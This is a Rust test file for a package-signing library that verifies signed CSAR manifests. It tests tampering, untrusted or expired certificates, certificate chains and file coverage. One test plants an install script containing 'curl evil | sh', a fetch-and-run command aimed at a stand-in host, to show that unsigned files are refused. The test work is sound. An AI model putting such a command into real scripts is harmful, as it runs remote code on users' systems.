//! Signing a package's manifest and verifying it: a signed package verifies against its signer or the CA that
//! issued it (through intermediates); tampering with a listed file, the manifest or the signature, a file the
//! signature does not cover, an untrusted signer, or a certificate not valid at the time of verification, each
//! fails with its own error naming what is wrong. Time is always given: no test depends on today's date.

#![allow(clippy::unwrap_used)]

mod common;

use base64::Engine;
use common::{TempDir, rezip, zip_read};
use mec_csar::{
    Coverage, Error, Limits, Manifest, Package, PackageBuilder, Verifier, sign_manifest,
};
use std::io::Cursor;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const SIGNER_CRT: &str = include_str!("fixtures/signer.crt");
const SIGNER_KEY: &str = include_str!("fixtures/signer.key");
const OTHER_CRT: &str = include_str!("fixtures/other.crt");
const CA_CRT: &str = include_str!("fixtures/ca.crt");
const LEAF_CRT: &str = include_str!("fixtures/leaf.crt");
const LEAF_KEY: &str = include_str!("fixtures/leaf.key");
const ROOT_CRT: &str = include_str!("fixtures/root.crt");
const INTERMEDIATE_CRT: &str = include_str!("fixtures/intermediate.crt");
const CHAINED_CRT: &str = include_str!("fixtures/chained.crt");
const CHAINED_KEY: &str = include_str!("fixtures/chained.key");
const BY_NON_CA_CRT: &str = include_str!("fixtures/by-non-ca.crt");
const BY_NON_CA_KEY: &str = include_str!("fixtures/by-non-ca.key");

/// 2027-01-01T00:00:00Z: every fixture certificate is valid then.
fn in_2027() -> SystemTime {
    UNIX_EPOCH + Duration::from_secs(1_798_761_600)
}

fn years_after_2027(years: u64) -> SystemTime {
    in_2027() + Duration::from_secs(years * 366 * 86_400)
}

fn verifier(anchor: &str) -> Verifier {
    Verifier::new(anchor).unwrap().at(in_2027())
}

fn unsigned_package() -> Vec<u8> {
    PackageBuilder::new("demo")
        .metadata("app_product_name", "demo")
        .metadata("app_provider_id", "acme")
        .metadata("app_package_version", "1.0")
        .metadata("app_release_data_time", "2026-11-24 12:00")
        .metadata("app_class", "container")
        .file(
            "APPD/demo.yaml",
            "tosca_definitions_version: tosca_simple_yaml_1_2\n",
        )
        .file("Artifacts/Docs/README.md", "# demo\n")
        .entry_definitions("APPD/demo.yaml")
        .write(Cursor::new(Vec::new()))
        .unwrap()
        .into_inner()
}

fn read(bytes: &[u8], name: &str) -> Vec<u8> {
    zip_read(bytes, name)
}

fn replace(bytes: &[u8], path: &str, data: &[u8]) -> Vec<u8> {
    rezip(bytes, &[(path, Some(data))])
}

fn sign(bytes: &[u8], cert: &str, key: &str) -> Vec<u8> {
    let manifest = String::from_utf8(read(bytes, "demo.mf")).unwrap();
    let signed = sign_manifest(&manifest, cert, key).unwrap();
    replace(bytes, "demo.mf", signed.as_bytes())
}

fn signed_package(cert: &str, key: &str) -> Vec<u8> {
    sign(&unsigned_package(), cert, key)
}

fn open(bytes: &[u8]) -> Package<Cursor<Vec<u8>>> {
    Package::from_reader(Cursor::new(bytes.to_vec()), Limits::default()).unwrap()
}

fn verify_with(bytes: &[u8], v: &Verifier) -> Result<mec_csar::VerifiedSignature, Error> {
    v.verify_package(&mut open(bytes))
}

fn verify(bytes: &[u8], anchor: &str) -> Result<String, Error> {
    verify_with(bytes, &verifier(anchor)).map(|v| v.signer)
}

#[test]
fn a_signed_package_verifies_against_its_signer() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    let manifest = String::from_utf8(read(&bytes, "demo.mf")).unwrap();
    assert!(manifest.trim_end().ends_with("-----END CMS-----"));
    assert!(Manifest::parse(&manifest).unwrap().cms.unwrap().len() > 500);
    let v = verify_with(&bytes, &verifier(SIGNER_CRT)).unwrap();
    assert!(v.signer.contains("mec-csar test signer"), "{}", v.signer);
    // Every file is covered: the two files and TOSCA.meta.
    assert_eq!(v.files_checked, 3);
    let report = mec_csar::validate(Cursor::new(&bytes), &Limits::default());
    assert!(report.is_valid(), "{report}");
}

#[test]
fn a_package_signed_by_a_certified_publisher_verifies_against_the_ca() {
    let bytes = signed_package(LEAF_CRT, LEAF_KEY);
    assert!(verify(&bytes, CA_CRT).unwrap().contains("publisher"));
    assert!(matches!(
        verify(&bytes, SIGNER_CRT),
        Err(Error::UntrustedSigner(_))
    ));
}

#[test]
fn a_changed_listed_file_fails() {
    let bytes = replace(
        &signed_package(SIGNER_CRT, SIGNER_KEY),
        "Artifacts/Docs/README.md",
        b"# evil\n",
    );
    let e = verify(&bytes, SIGNER_CRT).unwrap_err();
    assert!(
        matches!(&e, Error::FileChanged(f) if f == "Artifacts/Docs/README.md"),
        "{e}"
    );
    assert!(e.is_content_mismatch() && !e.is_bad_signature());
    assert_eq!(e.entry(), Some("Artifacts/Docs/README.md"));
    assert_eq!(e.finding_code(), Some(mec_csar::codes::DIGEST_MISMATCH));
}

#[test]
fn a_changed_manifest_fails() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    let manifest = String::from_utf8(read(&bytes, "demo.mf")).unwrap();
    let m = Manifest::parse(&manifest).unwrap();
    let hash = m.sources[0].hash.clone().unwrap();
    let evil = manifest.replace(&hash, &"0".repeat(64));
    let v = verifier(SIGNER_CRT);
    assert!(matches!(
        v.verify_manifest(&evil),
        Err(Error::ManifestChanged)
    ));
    let e = v.verify_manifest(&evil).unwrap_err();
    assert!(
        e.is_bad_signature() && !e.is_untrusted() && !e.is_content_mismatch(),
        "{e}"
    );
    let broken = manifest.replacen("Source: ", "Source ", 1);
    let e = v.verify_manifest(&broken).unwrap_err();
    assert!(e.is_invalid_metadata() && e.line().is_some(), "{e}");
    assert_eq!(e.finding_code(), Some(mec_csar::codes::MANIFEST_MALFORMED));
    let added = manifest.replacen(
        "Source: ",
        "Source: Artifacts/extra.sh\nAlgorithm: SHA-256\nHash: 00\n\nSource: ",
        1,
    );
    assert!(matches!(
        v.verify_manifest(&added),
        Err(Error::ManifestChanged)
    ));
}

#[test]
fn a_changed_signature_fails() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    let manifest = String::from_utf8(read(&bytes, "demo.mf")).unwrap();
    let mut m = Manifest::parse(&manifest).unwrap();
    let engine = base64::engine::general_purpose::STANDARD;
    let mut der = engine.decode(m.cms.as_ref().unwrap()).unwrap();
    // The signature value closes the DER: flip a byte of it.
    let n = der.len();
    der[n - 5] ^= 0x01;
    m.cms = Some(engine.encode(&der));
    let v = verifier(SIGNER_CRT);
    assert!(matches!(
        v.verify_manifest(&m.to_string()),
        Err(Error::BadSignature)
    ));
    m.cms = Some("bm90IGRlcg==".into());
    assert!(matches!(
        v.verify_manifest(&m.to_string()),
        Err(Error::MalformedSignature(_))
    ));
    m.cms = Some("***".into());
    assert!(matches!(
        v.verify_manifest(&m.to_string()),
        Err(Error::MalformedSignature(_))
    ));
}

#[test]
fn an_untrusted_signer_and_an_unsigned_package_fail() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    assert!(matches!(
        verify(&bytes, OTHER_CRT),
        Err(Error::UntrustedSigner(_))
    ));
    assert!(matches!(
        verify(&unsigned_package(), SIGNER_CRT),
        Err(Error::NotSigned)
    ));
    let e = verify(&unsigned_package(), SIGNER_CRT).unwrap_err();
    assert!(e.is_not_signed() && !e.is_bad_signature(), "{e}");
    assert!(verify(&bytes, OTHER_CRT).unwrap_err().is_untrusted());
}

#[test]
fn bad_signing_material_is_refused() {
    let manifest = String::from_utf8(read(&unsigned_package(), "demo.mf")).unwrap();
    assert!(matches!(
        sign_manifest(&manifest, "not a cert", SIGNER_KEY),
        Err(Error::InvalidKey(_))
    ));
    assert!(matches!(
        sign_manifest(&manifest, SIGNER_CRT, "not a key"),
        Err(Error::InvalidKey(_))
    ));
    assert!(matches!(
        Verifier::new("not a cert"),
        Err(Error::InvalidKey(_))
    ));
}

#[test]
fn ber_signatures_like_edgegallerys_verify() {
    // Made with `openssl cms -sign -binary -nodetach -stream`: indefinite lengths and a segmented content.
    let manifest = include_str!("fixtures/ber-signed.mf");
    let v = verifier(SIGNER_CRT);
    let verified = v.verify_manifest(manifest).unwrap();
    assert!(verified.signer.contains("mec-csar test signer"));
    let changed = manifest.replace("Hash: 0123", "Hash: 9123");
    assert!(matches!(
        v.verify_manifest(&changed),
        Err(Error::ManifestChanged)
    ));
    // An anchor given with the text openssl writes around it is read too.
    let decorated = format!("subject=CN = mec-csar test signer\n\n{SIGNER_CRT}");
    assert!(verifier(&decorated).verify_manifest(manifest).is_ok());
}

#[test]
fn sol004_detached_signatures_over_the_manifest_text_verify() {
    // Made with `openssl cms -sign -binary` (detached) over the text before the CMS block.
    let manifest = include_str!("fixtures/detached-signed.mf");
    let v = verifier(SIGNER_CRT);
    assert!(v.verify_manifest(manifest).is_ok());
    // Any change to the text signed (metadata included, which EdgeGallery's form leaves out) fails.
    let changed = manifest.replace("vnf_package_version: 1.0", "vnf_package_version: 6.6");
    assert!(matches!(
        v.verify_manifest(&changed),
        Err(Error::ManifestChanged)
    ));
}

// ---- 1. a signature must cover what will be read ----

/// A signed EdgeGallery-like package whose manifest lists only the entry definitions (as EdgeGallery signs).
fn eg_signed_listing_only_the_entry() -> Vec<u8> {
    let bytes = unsigned_package();
    let manifest = String::from_utf8(read(&bytes, "demo.mf")).unwrap();
    let mut only = Manifest::parse(&manifest).unwrap();
    only.sources.retain(|s| s.source == "APPD/demo.yaml");
    let signed = sign_manifest(&only.to_string(), SIGNER_CRT, SIGNER_KEY).unwrap();
    replace(&bytes, "demo.mf", signed.as_bytes())
}

#[test]
fn entry_definitions_pointed_at_an_unlisted_file_is_not_verified() {
    for bytes in [
        signed_package(SIGNER_CRT, SIGNER_KEY),
        eg_signed_listing_only_the_entry(),
    ] {
        let meta = String::from_utf8(read(&bytes, "TOSCA-Metadata/TOSCA.meta")).unwrap();
        let evil = rezip(
            &bytes,
            &[
                (
                    "TOSCA-Metadata/TOSCA.meta",
                    Some(meta.replace("APPD/demo.yaml", "APPD/evil.yaml").as_bytes()),
                ),
                ("APPD/evil.yaml", Some(b"tosca_definitions_version: evil\n")),
            ],
        );
        let e =
            verify_with(&evil, &verifier(SIGNER_CRT).coverage(Coverage::EntryFiles)).unwrap_err();
        assert!(
            matches!(&e, Error::NotCovered(f, _) if f == "APPD/evil.yaml"),
            "{e}"
        );
        assert!(e.to_string().contains("APPD/evil.yaml"), "{e}");
        let e = verify_with(&evil, &verifier(SIGNER_CRT)).unwrap_err();
        assert!(e.is_content_mismatch(), "{e}");
    }
}

#[test]
fn by_default_every_file_must_be_covered() {
    let bytes = rezip(
        &signed_package(SIGNER_CRT, SIGNER_KEY),
        &[("Artifacts/Scripts/install.sh", Some(b"curl evil | sh\n"))],
    );
    let e = verify(&bytes, SIGNER_CRT).unwrap_err();
    assert!(
        matches!(&e, Error::NotCovered(f, why) if f == "Artifacts/Scripts/install.sh" && why.contains("demo.mf")),
        "{e}"
    );
    // Only the entry files: the script is not what a reader starts from.
    assert!(verify_with(&bytes, &verifier(SIGNER_CRT).coverage(Coverage::EntryFiles)).is_ok());
}

#[test]
fn edgegallery_signatures_cover_the_entry_files_only() {
    let bytes = eg_signed_listing_only_the_entry();
    let v = verify_with(&bytes, &verifier(SIGNER_CRT).coverage(Coverage::EntryFiles)).unwrap();
    assert_eq!(v.files_checked, 1);
    // TOSCA.meta, README.md: not listed, so not verified under the default coverage.
    let e = verify(&bytes, SIGNER_CRT).unwrap_err();
    assert!(matches!(e, Error::NotCovered(..)), "{e}");
}

#[test]
fn etsi_entry_files_must_be_covered_too() {
    let base = unsigned_package();
    let meta = String::from_utf8(read(&base, "TOSCA-Metadata/TOSCA.meta")).unwrap();
    let meta = format!("{meta}ETSI-Entry-Change-Log: Files/ChangeLog.txt\n");
    // TOSCA.meta's block 0 ends where the Name blocks begin; the builder writes none here.
    let bytes = rezip(
        &base,
        &[
            ("TOSCA-Metadata/TOSCA.meta", Some(meta.as_bytes())),
            ("Files/ChangeLog.txt", Some(b"1.0: first\n")),
        ],
    );
    let bytes = sign(&bytes, SIGNER_CRT, SIGNER_KEY);
    let e = verify_with(&bytes, &verifier(SIGNER_CRT).coverage(Coverage::EntryFiles)).unwrap_err();
    assert!(
        matches!(&e, Error::NotCovered(f, _) if f == "Files/ChangeLog.txt"),
        "{e}"
    );
}

#[test]
fn a_listed_file_missing_from_the_package_fails() {
    let bytes = rezip(
        &signed_package(SIGNER_CRT, SIGNER_KEY),
        &[("Artifacts/Docs/README.md", None)],
    );
    let e = verify(&bytes, SIGNER_CRT).unwrap_err();
    assert!(
        matches!(&e, Error::MissingFile(f) if f == "Artifacts/Docs/README.md"),
        "{e}"
    );
    assert!(e.is_content_mismatch());
}

#[test]
fn an_unsafe_package_is_not_verified() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    let dup = common::raw_zip(&[
        (b"demo.mf", &read(&bytes, "demo.mf"), common::FILE),
        (b"APPD/demo.yaml", b"x", common::FILE),
        (b"APPD/demo.yaml", b"y", common::FILE),
    ]);
    assert!(matches!(
        verify(&dup, SIGNER_CRT),
        Err(Error::Unsafe(_) | Error::Refused(_))
    ));
}

// ---- certificate validity and chains ----

#[test]
fn the_signer_must_be_valid_at_the_time_of_verification() {
    let bytes = signed_package(SIGNER_CRT, SIGNER_KEY);
    // Made on 2026-11-24 for a hundred years.
    let before = UNIX_EPOCH + Duration::from_secs(1_780_000_000); // 2026-05-28
    let e = verify_with(&bytes, &Verifier::new(SIGNER_CRT).unwrap().at(before)).unwrap_err();
    assert!(
        matches!(&e, Error::CertificateNotValid(m) if m.contains("mec-csar test signer") && m.contains("2026-11-24")),
        "{e}"
    );
    assert!(e.is_untrusted());
    let after = years_after_2027(101);
    let e = verify_with(&bytes, &Verifier::new(SIGNER_CRT).unwrap().at(after)).unwrap_err();
    assert!(matches!(e, Error::CertificateNotValid(_)), "{e}");
    assert!(verify_with(&bytes, &verifier(SIGNER_CRT)).is_ok());
}

fn chained_package(chain: &[&str], key: &str) -> Vec<u8> {
    signed_package(&chain.concat(), key)
}

#[test]
fn a_signer_chains_to_the_root_through_an_embedded_intermediate() {
    let bytes = chained_package(&[CHAINED_CRT, INTERMEDIATE_CRT], CHAINED_KEY);
    let v = verify_with(&bytes, &verifier(ROOT_CRT)).unwrap();
    assert_eq!(v.chain.len(), 3, "{:?}", v.chain);
    assert!(v.chain[1].contains("intermediate"), "{:?}", v.chain);
    // The intermediate itself may be the anchor.
    assert!(verify_with(&bytes, &verifier(INTERMEDIATE_CRT)).is_ok());
    // Without the intermediate, the root cannot be reached.
    let alone = chained_package(&[CHAINED_CRT], CHAINED_KEY);
    assert!(matches!(
        verify(&alone, ROOT_CRT),
        Err(Error::UntrustedSigner(_))
    ));
}

#[test]
fn an_expired_intermediate_breaks_the_chain() {
    // The intermediate was made for ten years on 2026-12-02; the signer and the root for a hundred.
    let bytes = chained_package(&[CHAINED_CRT, INTERMEDIATE_CRT], CHAINED_KEY);
    let e = verify_with(
        &bytes,
        &Verifier::new(ROOT_CRT).unwrap().at(years_after_2027(10)),
    )
    .unwrap_err();
    assert!(
        matches!(&e, Error::CertificateNotValid(m) if m.contains("intermediate")),
        "{e}"
    );
}

#[test]
fn a_certificate_issued_by_a_non_authority_is_not_trusted() {
    let bytes = chained_package(
        &[BY_NON_CA_CRT, CHAINED_CRT, INTERMEDIATE_CRT],
        BY_NON_CA_KEY,
    );
    assert!(matches!(
        verify(&bytes, ROOT_CRT),
        Err(Error::UntrustedSigner(_))
    ));
    assert!(matches!(
        verify(&bytes, CHAINED_CRT),
        Err(Error::UntrustedSigner(_))
    ));
}

#[test]
fn a_certificate_in_the_package_completes_the_chain() {
    // SOL004: certificates may sit in the ETSI-Entry-Certificate file rather than in the CMS, which here
    // carries the signer's alone.
    let tmp = TempDir::new("cert-in-package");
    let dir = tmp.path().join("pkg");
    open(&unsigned_package()).extract(&dir).unwrap();
    let meta_path = dir.join("TOSCA-Metadata/TOSCA.meta");
    let meta = std::fs::read_to_string(&meta_path).unwrap();
    std::fs::write(
        &meta_path,
        format!("{meta}ETSI-Entry-Certificate: Files/Certificates/chain.cert\n"),
    )
    .unwrap();
    std::fs::create_dir_all(dir.join("Files/Certificates")).unwrap();
    std::fs::write(
        dir.join("Files/Certificates/chain.cert"),
        format!("{CHAINED_CRT}{INTERMEDIATE_CRT}"),
    )
    .unwrap();
    let out = tmp.path().join("pkg.csar");
    let written = PackageBuilder::from_dir(&dir)
        .unwrap()
        .sign_with(CHAINED_CRT, CHAINED_KEY)
        .write_to_path(&out, &mut |_, _| {})
        .unwrap();
    assert_eq!(written.changed, ["TOSCA-Metadata/TOSCA.meta"]);
    let bytes = std::fs::read(&out).unwrap();
    let v = verify_with(&bytes, &verifier(ROOT_CRT)).unwrap();
    assert_eq!(v.chain.len(), 3, "{:?}", v.chain);
}
